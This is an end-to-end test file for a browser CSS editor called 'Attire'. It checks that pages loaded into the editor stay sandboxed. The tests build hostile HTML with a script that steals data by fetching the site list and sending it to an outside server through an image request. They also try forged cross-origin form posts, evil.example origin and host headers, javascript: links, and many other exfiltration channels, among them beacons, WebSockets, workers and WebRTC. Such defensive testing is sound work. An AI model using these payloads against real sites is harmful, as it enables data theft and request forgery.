import { createSocket } from 'node:dgram'
import { createServer, type Server } from 'node:http'
import { expect, test } from './test.ts'
import {
  bringIn,
  bytes,
  frameOf,
  inFrame,
  kept,
  openSite,
  pageFrames,
  stored,
  typeAtStart,
  valueIn,
} from './helpers.ts'

/** A server that a page must not reach: it writes down whoever comes. */
let outside: Server
let visits: string[]
let outsideAddress: string
test.beforeAll(async () => {
  outside = createServer((request, response) => {
    visits.push(request.url ?? '')
    response.setHeader('access-control-allow-origin', '*').end('x')
  })
  await new Promise<void>((resolve) => void outside.listen(0, '127.0.0.1', resolve))
  outsideAddress = `http://127.0.0.1:${(outside.address() as { port: number }).port}`
})
test.afterAll(() => void outside.close())

test('a hostile page reaches neither Attire’s data nor its routes nor anything outside', async ({
  page,
  request,
  baseURL,
}) => {
  visits = []
  const victim = await bringIn(request, 'Victim', { 'index.html': bytes('<p>secret') })
  const steal = `fetch('/api/sites').then(r=>r.text()).then(t=>{document.title='stolen';new Image().src='${outsideAddress}/stolen?'+t});parent.document.title='stolen';top.location='${outsideAddress}/top';parent.postMessage({attire:1,message:{type:'follow',href:'javascript:alert(1)'}},'*')`
  const hostile = `<!doctype html><html><head>
    <meta http-equiv="refresh" content="0;url=${baseURL}/api/sites/${victim}">
    <link rel="preconnect" href="${outsideAddress}"><link rel="stylesheet" href="${outsideAddress}/sheet.css"><link rel="prefetch" href="${outsideAddress}/prefetch">
    <link rel="stylesheet" href="site.css"><base href="${outsideAddress}/">
    <script>${steal}</script><script src="${outsideAddress}/evil.js"></script><script type="module">${steal}</script>
    <style>@import url("${outsideAddress}/import.css"); body { background: url(${outsideAddress}/bg.png) } @font-face { font-family: x; src: url(${outsideAddress}/f.woff2) } p { font-family: x }</style></head>
    <body onload="${steal.replace(/"/g, '&quot;')}"><p id="mark">here</p>
    <img src="x" onerror="${steal.replace(/"/g, '&quot;')}"><img src="${outsideAddress}/img.png"><img src="${baseURL}/api/sites/${victim}"><iframe src="${baseURL}/site/${victim}"></iframe><iframe srcdoc="<script>${steal.replace(/"/g, '&quot;')}</script>"></iframe>
    <object data="${outsideAddress}/object"></object><embed src="${outsideAddress}/embed"><video src="${outsideAddress}/video" poster="${outsideAddress}/poster"></video>
    <svg><script>${steal}</script><image href="${outsideAddress}/svg.png"/></svg>
    <form id="form" method="post" action="${baseURL}/api/import?name=forged" enctype="text/plain"><input name="x" value="1"><button id="send">send</button></form>
    <form id="out" action="${outsideAddress}/form"><button id="leave">leave</button></form>
    <a id="script" href="javascript:${steal.replace(/"/g, '&quot;')}">js</a> <a id="blank" target="_blank" href="${outsideAddress}/blank">blank</a> <a id="top" target="_top" href="${outsideAddress}/toplink">top</a>
    </body></html>`
  const site = await bringIn(request, 'Hostile', {
    'index.html': bytes(hostile),
    'site.css': bytes('p { color: red }'),
  })
  const messages: string[] = []
  page.on('dialog', (dialog) => {
    messages.push(dialog.message())
    void dialog.dismiss()
  })
  const calls: string[] = []
  page.on('response', (answer) => {
    if (answer.frame() !== page.mainFrame()) calls.push(answer.url())
  })
  await openSite(page, site)
  await page.getByRole('button', { name: '768' }).click()
  await page.getByRole('button', { name: 'Open index.html in a close-up' }).click()
  const close = page.frameLocator('iframe[title^="Close-up"]')
  await expect(close.locator('#mark')).toHaveText('here')
  for (const id of ['send', 'leave', 'script', 'blank', 'top']) await close.locator(`#${id}`).click({ timeout: 3000 })
  // A visit that begins after the clicks comes after whatever they could have set off; and it shows that visits are heard.
  await page.evaluate(() => new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve))))
  const witness = await page.context().newPage()
  await witness.goto(`${outsideAddress}/witness`)
  await witness.close()

  expect(visits.filter((address) => address !== '/favicon.ico')).toEqual(['/witness'])
  expect(messages).toEqual([])
  expect(calls.filter((address) => new URL(address).pathname.startsWith('/api'))).toEqual([])
  expect(page.url()).toBe(`${baseURL}/site/${site}`)
  expect(page.context().pages()).toHaveLength(1)
  expect(await page.title()).toBe('Attire')
  const frame = pageFrames(page).at(-1)!
  expect(
    await frame.evaluate(() => [self.origin, document.title, getComputedStyle(document.querySelector('#mark')!).color]),
  ).toEqual(['null', '', 'rgb(255, 0, 0)'])
  // Even code that did run there would be refused by the routes themselves.
  const tried = await frame.evaluate(async (address) => {
    const outcome = async (work: Promise<unknown>) =>
      work.then(
        () => 'reached',
        () => 'refused',
      )
    return [
      await outcome(fetch(`${address}/api/sites`)),
      await outcome(fetch(`${address}/api/import?name=x`, { method: 'POST', mode: 'no-cors', body: 'x' })),
    ]
  }, baseURL!)
  expect(tried).toEqual(['refused', 'refused'])
  const names = ((await (await request.get('/api/sites')).json()) as { sites: { name: string }[] }).sites.map(
    ({ name }) => name,
  )
  expect(names).not.toContain('forged')
  expect((await stored(request, victim)).texts['index.html']).toBe('<p>secret')
})

test('the scripts of a site run when that is asked for, reach nothing, and change nothing of the workroom', async ({
  page,
  request,
  baseURL,
}) => {
  visits = []
  const packets: string[] = []
  const ear = createSocket('udp4', (message) => packets.push(message.toString('latin1')))
  await new Promise<void>((resolve) => void ear.bind(0, '127.0.0.1', resolve))
  const victim = await bringIn(request, 'Victim of scripts', { 'index.html': bytes('<p>secret') })
  const tries = `
    const tried = (name, work) => { try { const made = work(); made?.catch?.(() => {}) } catch {} }
    const everything = (w) => {
      for (const to of ['${outsideAddress}/', '${baseURL}/api/sites/${victim}', '/api/sites', '${baseURL}/wear/${victim}/x/index.html']) {
        tried('fetch', () => w.fetch(to).then(() => { document.title = 'stolen' }))
        tried('keepalive', () => w.fetch(to, { method: 'POST', mode: 'no-cors', keepalive: true, body: 'x' }))
        tried('xhr', () => { const r = new w.XMLHttpRequest(); r.open('GET', to); r.onload = () => { document.title = 'stolen' }; r.send() })
        tried('beacon', () => w.navigator.sendBeacon(to, 'x'))
        tried('events', () => new w.EventSource(to))
        tried('socket', () => new w.WebSocket(to.replace('http', 'ws')))
        tried('image', () => { new w.Image().src = to + '?image' })
        tried('worker', () => new w.Worker(to))
        tried('blob worker', () => new w.Worker(URL.createObjectURL(new Blob(['fetch("' + to + '")']))))
        tried('service', () => w.navigator.serviceWorker.register(to))
        tried('open', () => w.open(to))
        tried('import', () => eval('import("' + to + 'x.js")'))
        tried('css', () => { const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = to + '.css'; document.head.append(l) })
        tried('preconnect', () => { const l = document.createElement('link'); l.rel = 'preconnect'; l.href = to; document.head.append(l) })
        tried('prefetch', () => { const l = document.createElement('link'); l.rel = 'prefetch'; l.href = to; document.head.append(l) })
        tried('script', () => { const s = document.createElement('script'); s.src = to + '.js'; document.head.append(s) })
        tried('frame', () => { const f = document.createElement('iframe'); f.src = to; document.body.append(f) })
        tried('form', () => { const f = document.createElement('form'); f.action = to; f.method = 'post'; document.body.append(f); f.submit() })
        tried('top', () => { top.location = to })
        tried('parent', () => { parent.document.title = 'stolen' })
      }
      tried('peer', () => {
        const peer = new w.RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${ear.address().port}' }] })
        peer.createDataChannel('x')
        peer.createOffer().then((offer) => peer.setLocalDescription(offer))
      })
      tried('store', () => { localStorage.x = document.cookie = 'x=1' })
    }
    addEventListener('load', () => {
      document.querySelector('#mark').textContent = 'ran'
      document.querySelector('#mark').insertAdjacentHTML('beforebegin', '<b id="made">made</b>')
      everything(window)
      const inner = document.createElement('iframe')
      document.body.append(inner)
      // A frame within has constructors of its own, which the bridge cannot take away in time: the policy holds there too.
      everything(inner.contentWindow)
      const data = document.createElement('iframe')
      data.src = 'data:text/html,<script>fetch("${outsideAddress}/data");new Image().src="${outsideAddress}/data.png"</' + 'script>'
      document.body.append(data)
      for (const key of ['z', 'Z', 'y']) parent.postMessage({ attire: 1, message: { type: 'key', key, code: 'KeyZ', ctrl: true, shift: false, alt: false } }, '*')
      const leave = (to) => addEventListener('click', () => { location = to })
      leave('${outsideAddress}/left')
      leave('${baseURL}/api/sites/${victim}')
    })`
  const site = await bringIn(request, 'Scripted', {
    'index.html': bytes(
      `<!doctype html><title>x</title><link rel="stylesheet" href="site.css"><p id="mark">here</p><script src="own.js"></script><script>${tries}</script>`,
    ),
    'own.js': bytes('document.documentElement.dataset.own = "ran"'),
    'site.css': bytes('p { color: red }'),
  })
  const answers: string[] = []
  page.on('response', (answer) => {
    const { pathname } = new URL(answer.url())
    if (answer.frame() !== page.mainFrame() && !pathname.startsWith(`/wear/${site}/`) && pathname !== '/bridge.js')
      answers.push(answer.url())
  })
  await openSite(page, site)
  await expect(page.frameLocator('iframe').locator('#mark')).toHaveText('here')
  await page.getByRole('button', { name: 'its scripts are off here' }).click()
  await page.getByRole('button', { name: 'Let them run' }).click()
  await expect(page.getByRole('button', { name: 'its scripts run here' })).toBeVisible()
  await page.getByRole('button', { name: 'Open index.html in a close-up' }).click()
  const close = page.frameLocator('iframe[title^="Close-up"]')
  await expect(close.locator('#mark')).toHaveText('ran')
  expect(await close.locator('html').getAttribute('data-own')).toBe('ran')
  await close.locator('#made').click()
  await expect(page.getByText('A script of the page made this part')).toBeVisible()
  await page.waitForTimeout(1500)

  expect(visits).toEqual([])
  expect(answers).toEqual([])
  expect(packets).toEqual([])
  expect(page.url()).toBe(`${baseURL}/site/${site}`)
  expect(page.context().pages()).toHaveLength(1)
  expect(await page.title()).toBe('Attire')
  expect((await stored(request, victim)).texts['index.html']).toBe('<p>secret')
  // A window opened anew runs no script: one that never ends cannot shut a site away.
  await page.reload()
  await page.getByRole('button', { name: 'Lineup', exact: true }).click()
  await expect(page.getByRole('button', { name: 'its scripts are off here' })).toBeVisible()
  ear.close()
})

test('a frame cannot pass itself off as the bridge with messages of another shape', async ({ page, request }) => {
  const site = await bringIn(request, 'Messages', { 'index.html': bytes('<p>x'), 'site.css': bytes('') })
  await openSite(page, site)
  await pageFrames(page)[0]!.evaluate(() => {
    for (const message of [
      null,
      'x',
      { attire: 1 },
      { attire: 1, message: { type: 'save' } },
      { attire: 1, message: { type: 'applied', seq: 'a' } },
    ])
      parent.postMessage(message, '*')
  })
  // The workroom goes on as if nothing had been said: what it asks of this very frame is still done.
  await page.getByLabel('Command, or a selector to try').fill('p')
  await expect(page.getByText('1 here')).toBeVisible()
  await expect
    .poll(() =>
      pageFrames(page)[0]!.evaluate(() =>
        getComputedStyle(document.querySelector('p')!).getPropertyValue('outline-style'),
      ),
    )
    .toBe('solid')
  expect((await stored(request, site)).steps).toEqual([])
})

test('routes refuse foreign origins and hosts with one shape and a sentence', async ({
  request,
  playwright,
  baseURL,
}) => {
  const site = await bringIn(request, 'Guarded', { 'index.html': bytes('<p>x') })
  const cases = [
    {
      method: 'POST',
      path: '/api/import?name=x',
      headers: { origin: 'http://evil.example', 'content-type': 'application/zip' },
    },
    {
      method: 'POST',
      path: `/api/sites/${site}/save`,
      headers: { origin: 'null', 'content-type': 'application/json' },
    },
    { method: 'GET', path: `/api/sites/${site}`, headers: { 'sec-fetch-site': 'cross-site' } },
    { method: 'GET', path: '/api/sites', headers: { host: 'evil.example' } },
    { method: 'GET', path: '/', headers: { host: 'evil.example:4710' } },
    {
      method: 'POST',
      path: `/api/sites/${site}/save`,
      headers: { 'content-type': 'application/json' },
      data: '{"saveId":1}',
    },
    { method: 'POST', path: '/api/import?name=', headers: { 'content-type': 'application/zip' }, data: 'x' },
    { method: 'POST', path: '/api/import?name=x', headers: { 'content-type': 'application/zip' }, data: 'not a zip' },
    { method: 'GET', path: '/api/sites/none', headers: {} },
  ]
  const context = await playwright.request.newContext({ baseURL: baseURL! })
  const statuses = []
  for (const { method, path, headers, data } of cases) {
    const answer = await context.fetch(path, {
      method,
      headers: headers as Record<string, string>,
      ...(data ? { data } : {}),
    })
    const body = (await answer.json()) as { error: { code: string; message: string } }
    expect(body.error.message, `${method} ${path}`).toMatch(/^[A-Z“].*\.$/)
    statuses.push(answer.status())
  }
  expect(statuses).toEqual([403, 403, 403, 421, 421, 400, 400, 422, 404])
  expect((await request.get('/')).headers()['content-security-policy']).toMatch(
    /script-src 'self' 'nonce-[^']+' 'strict-dynamic'; style-src 'self' 'nonce-[^']+'/,
  )
})

test('sheets nested deeper than a browser lives through are shown and typed in', async ({ page, request }) => {
  const deep = (start: string) => start.repeat(40_000)
  const site = await bringIn(request, 'Deep', {
    'index.html': bytes(
      `<!doctype html><title>t</title><link rel="stylesheet" href="s.css"><style>${deep('b{')}</style><p>x</p>`,
    ),
    's.css': bytes(`p { color: green } ${deep('@media all{')}`),
  })
  await openSite(page, site)
  await expect.poll(() => valueIn(page, 'index.html', 'p', 'color')).toBe('rgb(0, 128, 0)')
  await page.keyboard.press('Alt+s')
  await typeAtStart(page, 'p{top:1px;}')
  await expect.poll(() => valueIn(page, 'index.html', 'p', 'top')).toBe('1px')
  await kept(page)
  expect((await stored(request, site)).looks[0]!.text).toBe(`p{top:1px;}p { color: green } ${deep('@media all{')}`)
})

test('the text of a page of tags thousands deep takes keys, as the editor’s parser runs out of stack', async ({
  page,
  request,
}) => {
  const text = `<!doctype html><title>t</title><link rel="stylesheet" href="s.css">${'<b><i>'.repeat(1500)}`
  const site = await bringIn(request, 'Deep', { 'index.html': bytes(text), 's.css': bytes('p { top: 0 }') })
  const thrown: string[] = []
  page.on('pageerror', ({ message }) => thrown.push(message))
  await openSite(page, site)
  await page.getByRole('button', { name: 'Open index.html in a close-up' }).click()
  await page.getByRole('button', { name: 'Text', exact: true }).click()
  await page.getByRole('textbox', { name: 'Text of index.html' }).focus()
  await page.keyboard.press('Control+End')
  await page.keyboard.type('words at the end')
  await kept(page)
  expect((await stored(request, site)).texts['index.html']).toBe(`${text}words at the end`)
  expect(thrown).toEqual([])
})

test('a page that answers no more is loaded anew', async ({ page, request }) => {
  const site = await bringIn(request, 'Deaf', {
    'index.html': bytes('<!doctype html><title>t</title><link rel="stylesheet" href="s.css"><p>x</p>'),
    's.css': bytes('p { color: green }'),
  })
  // Before the bridge, so that it can be kept from hearing anything.
  await page.addInitScript(() => {
    const deafen = (event: Event) => 'deaf' in window && event.stopImmediatePropagation()
    window.addEventListener('message', deafen, true)
  })
  await openSite(page, site)
  await frameOf(page, 'index.html').evaluate(() => Object.assign(window, { deaf: true }))
  await page.keyboard.press('Alt+s')
  await typeAtStart(page, 'p{top:1px;}')
  await kept(page)
  expect(await valueIn(page, 'index.html', 'p', 'top')).toBe('auto')
  await expect.poll(() => valueIn(page, 'index.html', 'p', 'top')).toBe('1px')
  expect((await stored(request, site)).looks[0]!.text).toBe('p{top:1px;}p { color: green }')
})

/** Blurred things that turn: this many are too many for any machine without a graphics card. */
const DOTS = 5000

test('a page that moves too much is stilled by itself, with a word and a way back, and the window stays quick', async ({
  page,
  request,
}) => {
  const dots = '<i></i>'.repeat(DOTS)
  const site = await bringIn(request, 'Moving', {
    'index.html': bytes(`<!doctype html><title>x</title><link rel="stylesheet" href="site.css"><h1>Dots</h1>${dots}`),
    'site.css': bytes(
      `@keyframes go { to { transform: translateX(300px) rotate(1turn); filter: blur(12px) } }
       i { display: inline-block; width: 90px; height: 90px; background: teal; animation: go 3s infinite alternate }`,
    ),
  })
  await openSite(page, site)
  const running = (file: string) =>
    inFrame(page, file, () => document.getAnimations().filter(({ playState }) => playState === 'running').length)
  await expect(page.getByText('stilled: it moved too much to keep up')).toBeVisible()
  await expect.poll(() => running('index.html')).toBe(0)
  const pictures = await page.evaluate(
    () =>
      new Promise<number>((resolve) => {
        const until = performance.now() + 1000
        let seen = 0
        const next = () => {
          seen++
          if (performance.now() < until) requestAnimationFrame(next)
          else resolve(seen)
        }
        requestAnimationFrame(next)
      }),
  )
  expect(pictures).toBeGreaterThan(20)

  await expect(page.getByRole('button', { name: 'Let index.html move' })).toBeVisible()
  expect((await stored(request, site)).steps).toEqual([])
})
